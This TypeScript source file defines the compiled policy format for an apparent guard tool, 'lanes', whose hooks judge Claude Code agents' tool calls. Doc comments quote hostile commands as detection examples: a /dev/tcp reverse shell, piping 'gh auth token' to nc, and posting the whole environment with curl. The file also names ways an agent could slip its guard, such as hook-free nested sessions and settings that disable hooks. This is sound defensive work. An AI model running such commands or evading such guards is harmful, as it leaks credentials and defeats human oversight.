/**
 * The compiled policy: what `lanes build` / `lanes init` / the SessionStart hook write to
 * `.claude/state/policy.json`, and all the PreToolUse hook reads. Plain JSON, plain TypeScript
 * types: the hot path never constructs a zod schema, never parses YAML, never compiles a glob.
 */
import type { CompiledGlob } from "../globs/types.ts";
import type { CodeExecution } from "../shell/types.ts";
import type { PathMatch } from "../schema/atoms.ts";
import type { PathClass } from "../schema/vocabulary.ts";
import { buildRuleIndex } from "./rule-index.ts";
import type { Effect, Layer } from "./types.ts";

/** Version of this format; a hook that meets another version treats the policy as stale. */
export const COMPILED_FORMAT = 12;

/**
 * Where the parts of a compiled policy file lie: byte offsets counted from the start of its second
 * line. `agents` and `ruleIndex` are the [start, end) of those values, `rules` the start and end
 * of each rule in turn, and `size` the length of everything after the first line (a truncated file
 * does not match it).
 */
export interface CompiledLayout {
  readonly agents: readonly [number, number];
  readonly ruleIndex: readonly [number, number];
  readonly rules: readonly number[];
  readonly size: number;
}

/**
 * The compiled policy file's text: compact JSON (every hook process reads it; `lanes rules` is
 * the readable view), laid out in lines so a hook parses only what it needs (policy-file.ts
 * `readCompiledPolicy`). The first line is everything small (options, sources, the other small
 * fields) and `layout` ({@link CompiledLayout}); then `agents` on a line, the rule index
 * (rule-index.ts) on a line, and `rules` one rule per line; then `]}`. Compact JSON has no raw
 * newline inside a value, so the lines are exact, and the whole file is still one JSON document
 * for any other reader.
 */
export function serializeCompiledPolicy(policy: CompiledPolicy): string {
  const { rules, agents, ruleIndex: _ignored, ...head } = policy;
  const parts: string[] = [];
  let at = 0;
  /** Appends `text` to what follows the first line and returns where it starts. */
  const put = (text: string): number => {
    const start = at;
    parts.push(text);
    at += Buffer.byteLength(text, "utf8");
    return start;
  };
  put(`"agents":`);
  const agentsAt = put(JSON.stringify(agents));
  const agentsEnd = at;
  put(`,\n"ruleIndex":`);
  const indexAt = put(JSON.stringify(buildRuleIndex(rules)));
  const indexEnd = at;
  put(`,\n"rules":[\n`);
  const spans: number[] = [];
  rules.forEach((rule, i) => {
    spans.push(put(JSON.stringify(rule)), at);
    put(i < rules.length - 1 ? ",\n" : "\n");
  });
  put("]}\n");
  const layout: CompiledLayout = {
    agents: [agentsAt, agentsEnd],
    ruleIndex: [indexAt, indexEnd],
    rules: spans,
    size: at,
  };
  const first = JSON.stringify({ ...head, layout });
  return `${first.slice(0, -"}".length)},\n${parts.join("")}`;
}

/** SQL statement kinds the database rules can name. */
export type SqlKind =
  | "drop-database"
  | "drop-schema"
  | "drop-table"
  | "drop-column"
  | "drop-role"
  | "truncate"
  | "delete-without-where"
  | "update-without-where"
  | "flush-all";

/**
 * A network client sending a secret to a peer that is not this machine (see `send` rules in
 * src/policy/rules/secrets.ts and the facts of src/shell/sends.ts).
 */
export interface SendMatch {
  /**
   * Hosts of this machine and of its private network (`*` wildcards): a request to them leaves
   * nothing.
   */
  readonly localHosts: readonly string[];
  /**
   * Run-time variables (lowercase name wildcards) whose value in the request's data counts. A
   * variable named after the peer's service (`GOOGLE_API_KEY` to `maps.googleapis.com`) is that
   * service's own credential, and so is one sent to a sign-in path (`signIn`) or to a host only
   * known at run time (the configured endpoint: `curl "$API_URL/x?key=$API_KEY"`).
   */
  readonly env?: readonly string[];
  /** Names `env` leaves out (lowercase wildcards): public keys, pagination and cache keys. */
  readonly envExcept?: readonly string[];
  /** First words of variable names that name no service (`api`, `app`, `secret`): never the peer's own credential. */
  readonly generic?: readonly string[];
  /** The whole environment sent (`curl -d "$(env)"`, interpreter code posting `os.environ`) counts. */
  readonly environment?: boolean;
  /**
   * Query parameters (lowercase) through which APIs take their key (`?key=`, `?api_key=`,
   * `?appid=`): a variable given there to a named host is that API's key.
   */
  readonly keyParams?: readonly string[];
  /** URL paths (wildcards) where a credential in the request is how a client signs in (`*\/oauth/token`). */
  readonly signIn?: readonly string[];
  /**
   * Match what the line prints into the transcript instead of what it sends to a peer: `env`
   * (`echo $GITHUB_TOKEN`), `from` (`gh auth token`), `environment` (`printenv | grep -i token`).
   */
  readonly transcript?: boolean;
  /**
   * Well-known tokens and the hosts of their service: variable name wildcards (lowercase) to host
   * wildcards. Such a variable sent as a credential (a header, `-u`) to a known host that is not one
   * of its service's counts; variables the table does not name are not judged here.
   * The built-in table is extended by `token_hosts` in lanes.yaml.
   */
  readonly tokens?: Readonly<Record<string, readonly string[]>>;
  /**
   * Local files uploaded (`NetworkSend.files`) count, to a known peer that is neither local, nor of
   * the private network (RFC 1918 addresses, one-label names), nor `trusted`.
   */
  readonly uploads?: boolean;
  /** Hosts (wildcards) the policy trusts with uploads: `upload_hosts` of lanes.yaml. */
  readonly trusted?: readonly string[];
  /** Requests with one of these methods (uppercase) to a known peer that is not local count (`DELETE`). */
  readonly methods?: readonly string[];
  /** A shell on this machine tied to the peer counts (`bash -i >& /dev/tcp/h/p 0>&1`). */
  readonly shell?: boolean;
  /** Programs whose output, sent as the request's content, counts (`gh auth token | nc host 443`). */
  readonly from?: readonly string[];
  /** The source's positional words, as a command rule's `args`. */
  readonly fromArgs?: readonly string[];
}

/** Statements sent to database clients (see `sql` rules in src/policy/rules/database.ts). */
export interface SqlMatch {
  /** Client programs, by basename (`psql`, `mysql`, `redis-cli`). */
  readonly clients: readonly string[];
  readonly statements: readonly SqlKind[];
  /**
   * Only the words after the first of these operands are statement text (with what the command
   * reads on stdin): `prisma db execute`, `typeorm query SQL`, `rails runner CODE`.
   */
  readonly after?: readonly string[];
  /**
   * Whether statements in interpreter code that uses a database driver count too (`python -c
   * "...execute('DROP TABLE x')"`); default true, always false with `after`.
   */
  readonly drivers?: boolean;
  /** The text is application code run in a framework's console (`rails runner`, `manage.py shell -c`). */
  readonly code?: boolean;
  /**
   * Scratch databases the rule leaves alone: for these clients, a database operand that matches one
   * of the wildcard `databases` (absolute paths or names) or lies in a temp directory, or no database
   * operand at all (an in-memory database).
   */
  readonly scratch?: { readonly clients: readonly string[]; readonly databases: readonly string[] };
}

/**
 * What an agent run of a Bash call does, for `agent-run` rules (the shell's `AgentRun`):
 * - `guard-off`: a Claude Code session without lanes' hooks (`--bare`, `--settings` that disable them, the SDK);
 * - `agent-type`: a Claude Code session as another agent type (`--agent`, `--agents`);
 * - `resume`: a Claude Code run that continues an existing session (`--resume`, `-c`, the SDK's `resume`);
 * - `session`: a Claude Code session with the project's hooks, as no agent type, new;
 * - `foreign`: another vendor's agent running a session (it never reads Claude Code's hooks);
 * - `configure`: a change to what later sessions load and run (`claude mcp add`, `claude plugin install`).
 */
export type AgentRunKind = "guard-off" | "agent-type" | "resume" | "session" | "foreign" | "configure";

/**
 * Files judged by what a write puts in them, for `guard-write` rules: Claude Code settings (the
 * guard keys of src/host/settings-guard.ts), git configuration files (keys that name a program,
 * src/host/git-programs.ts) and git attribute files (filter, diff and merge drivers).
 */
export type GuardFormat = "claude-settings" | "git-config" | "git-attributes";

/** What a compiled rule matches. Built-in rules use every kind; `lanes.yaml` uses command, path and tools. */
export type CompiledMatch =
  | {
      readonly kind: "command";
      readonly program: readonly string[];
      readonly args?: readonly string[];
      readonly flagsAny?: readonly string[];
      readonly flagsAll?: readonly (readonly string[])[];
      readonly flagsNone?: readonly string[];
      /** No positional word matches one of these `args` patterns (`*`: there is no positional word). */
      readonly wordsNone?: readonly string[];
      readonly optionValues?: Readonly<Record<string, readonly string[]>>;
      /** Environment assignments before the command, by name: wanted values. */
      readonly env?: Readonly<Record<string, readonly string[]>>;
      readonly doubleDash?: boolean;
      readonly operands?: readonly CompiledGlob[];
      readonly targets?: readonly PathClass[];
    }
  | {
      readonly kind: "path";
      /**
       * The schema's modes, and two for built-in rules only: `no-write` (writes and deletes count,
       * mode changes do not: `chmod 600 ~/.ssh/config` is no edit) and `no-read` (reads and runs count).
       */
      readonly access: PathMatch["access"] | "no-write" | "no-read" | "no-list" | "no-share";
      readonly patterns: readonly CompiledGlob[];
      readonly except: readonly CompiledGlob[];
    }
  | { readonly kind: "tools"; readonly tools: readonly CompiledGlob[] }
  /** A destructive delete (rm -r, find -delete, rmtree, ...) of a path in one of the classes. */
  | {
      readonly kind: "delete";
      readonly targets: readonly PathClass[];
      readonly dynamic?: boolean;
      readonly filtered?: boolean;
    }
  /** A file effect (write, chmod, chown) on a path in one of the classes. */
  | {
      readonly kind: "file-effect";
      readonly access: readonly ("write" | "delete" | "chmod" | "chown" | "link" | "hardlink")[];
      readonly targets: readonly PathClass[];
      /** `true`: only recursive effects count; `false`: only non-recursive ones. */
      readonly recursive?: boolean;
      /** Only writes that replace the whole content (`> f`, `truncate`, `cp x f`), not appends or edits. */
      readonly overwrite?: boolean;
      /** Only effects of shell commands count, not those of the file tools (Write, Edit...). */
      readonly shell?: boolean;
    }
  /** Code from a network fetcher run by a shell or an interpreter. */
  | { readonly kind: "remote-code"; readonly fetchers: readonly string[] }
  | { readonly kind: "fork-bomb" }
  /** Output of one of the `from` programs piped, directly or through other commands, into one of the `to` programs. */
  | {
      readonly kind: "pipe";
      readonly from: readonly string[];
      /** The source's positional words, as a command rule's `args` (`secretsmanager get-secret-value`). */
      readonly fromArgs?: readonly string[];
      /**
       * A source whose code all comes from one of these kinds is left out (`literal`, `disk`: a shell
       * running a `-c` string or a script read at hook time reads no commands from its input; a
       * shell inside that code that does is a source of its own). A source with no code counts.
       */
      readonly fromCodeExcept?: readonly CodeExecution["source"][];
      readonly to: readonly string[];
    }
  | ({ readonly kind: "sql" } & SqlMatch)
  /** A network client sending a secret variable, or the output of a credential printer, to a peer. */
  | ({ readonly kind: "send" } & SendMatch)
  /** A command the shell analysis could not represent, or the analysis budget ran out. */
  | { readonly kind: "unrepresentable" }
  /** Another agent a Bash call starts: a nested Claude Code, the Agent SDK, another vendor's agent CLI. */
  | { readonly kind: "agent-run"; readonly runs: AgentRunKind }
  /** A write whose content switches the guard off or parks a program for later (see {@link GuardFormat}). */
  | { readonly kind: "guard-write"; readonly format: GuardFormat }
  /** A git configuration key that names a program, set on the line (`git config`, `-c`, `GIT_CONFIG_*`), unless harmless. */
  | { readonly kind: "deferred-code"; readonly kinds: readonly ("git-config" | "git-option")[] };

/** One rule, ready to evaluate. */
export interface CompiledRule {
  readonly id: string;
  readonly layer: Layer;
  readonly effect: Effect;
  /** The effect for a subagent's call, when stricter than `effect` (self-protection: ask the person in the main session, deny a subagent). */
  readonly subagentEffect?: Effect;
  /** The rule judges only subagents' calls. */
  readonly only?: "subagents";
  readonly why: string;
  readonly instead: string;
  /** `lanes built-in` or the file the rule came from. */
  readonly source: string;
  readonly match: CompiledMatch;
}

/** An agent's lane, compiled from its definition. */
export interface CompiledAgent {
  readonly name: string;
  readonly role: "orchestrator" | "specialist" | "reviewer";
  readonly source: string;
  readonly owns: readonly CompiledGlob[];
  readonly notOwned: readonly { readonly glob: CompiledGlob; readonly owner: string }[];
  /** When set, the only tools the agent may use. */
  readonly toolsAllowed: readonly string[] | undefined;
  readonly toolsForbidden: readonly string[];
  /** MUST NOT rules that are enforced (layer `must-not`). */
  readonly mustNot: readonly CompiledRule[];
  /** Agent types it may spawn; `*` = any. */
  readonly maySpawn: readonly string[];
  /** Skills it may invoke; `*` = any. */
  readonly mayInvokeSkills: readonly string[];
}

/** A file the policy was compiled from, with its content hash, for the staleness check. */
export interface PolicySource {
  readonly path: string;
  /** Size and modification time at compile time: when both still match, the hash is not recomputed. */
  readonly size?: number;
  readonly mtimeMs?: number;
  /** FNV-1a 64 hash of the content (change detection); `null` when the file did not exist at compile time. */
  readonly hash: string | null;
}

/**
 * The lane of a subagent without a lanes definition (built-in, plugin and `.claude/agents` agents):
 * `unowned-only` may write only paths no lanes agent owns; `deny-writes` may not write at all;
 * `global-only` gets only the global rules.
 */
export type DefaultLane = "unowned-only" | "deny-writes" | "global-only";

/** What `subagents:` of lanes.yaml compiles to: rules for every subagent, defined or not. */
export interface CompiledSubagents {
  /** Lanes of agent types without a definition, by type (`Explore`, `Plan`, `plugin:x`); others get `options.defaultLane`. */
  readonly lanes: Readonly<Record<string, DefaultLane>>;
  /** When set, the only tools any subagent may use. */
  readonly toolsAllowed: readonly string[] | undefined;
  readonly toolsForbidden: readonly string[];
  /** MUST NOT rules of every subagent (ids `subagents.<id>`, layer `must-not`). */
  readonly mustNot: readonly CompiledRule[];
}

/** The lanes of Claude Code's built-in agents when lanes.yaml does not name them. */
export const BUILTIN_AGENT_LANES: Readonly<Record<string, DefaultLane>> = {
  Explore: "deny-writes",
  Plan: "deny-writes",
};

/** Options after layering, every one set. */
export interface CompiledOptions {
  readonly caseInsensitivePaths: boolean;
  readonly outsideProjectWrites: "deny" | "ask" | "off";
  readonly defaultLane: DefaultLane;
  readonly maxAgentDepth: number;
  readonly analysisBudgetMs: number;
  readonly auditMaxBytes: number;
  readonly escalateAfter: number;
  /** `sandbox`: write Claude Code's Bash sandbox settings from the policy (install/sandbox.ts). */
  readonly sandbox: "on" | "off";
  /** Hosts (wildcards) local files may be uploaded to without asking (`upload_hosts`, every layer's). */
  readonly uploadHosts: readonly string[];
  /** Hosts a token may be sent to beyond the built-in table, by variable name wildcard (`token_hosts`). */
  readonly tokenHosts: Readonly<Record<string, readonly string[]>>;
}

export interface CompiledPolicy {
  readonly format: typeof COMPILED_FORMAT;
  /** lanes version that compiled it. */
  readonly lanes: string;
  /** Every file whose change makes this policy stale (existing or not), and directories listed. */
  readonly sources: readonly PolicySource[];
  /**
   * Directories whose listing was compiled (agent definitions); a new file makes the policy stale.
   * `mtimeMs`: the directory's when listed, absent when it did not exist.
   */
  readonly listings: readonly {
    readonly dir: string;
    readonly entries: readonly string[];
    readonly mtimeMs?: number;
  }[];
  readonly options: CompiledOptions;
  /**
   * Every enabled rule of the settings-independent layers, highest layer first. Read from the file,
   * a rule is parsed when first touched (policy-file.ts).
   */
  readonly rules: readonly CompiledRule[];
  /** The rule index (rule-index.ts) as read from the file; absent from a policy compiled in memory. */
  readonly ruleIndex?: string;
  /** Rules switched off by `disable:`, with the file that did it, for `lanes check` traces. */
  readonly disabled: readonly { readonly id: string; readonly by: string }[];
  readonly agents: readonly CompiledAgent[];
  readonly subagents: CompiledSubagents;
  /**
   * Agent types Claude Code can start: lanes agents, `.claude/agents/*.md` and
   * `~/.claude/agents/*.md` names, and Claude Code's built-in types. Plugin-namespaced types
   * (`other:x`) are not listed and not checked.
   */
  readonly knownAgentTypes: readonly string[];
}

/** The smallest audit size limit a policy may set (`audit_max_bytes`). */
export const AUDIT_MIN_BYTES = 10_000;

/** Defaults of every option. */
export const DEFAULT_OPTIONS: CompiledOptions = {
  caseInsensitivePaths: false,
  outsideProjectWrites: "ask",
  defaultLane: "unowned-only",
  maxAgentDepth: 3,
  analysisBudgetMs: 50,
  auditMaxBytes: 5_000_000,
  escalateAfter: 3,
  sandbox: "on",
  uploadHosts: [],
  tokenHosts: {},
};
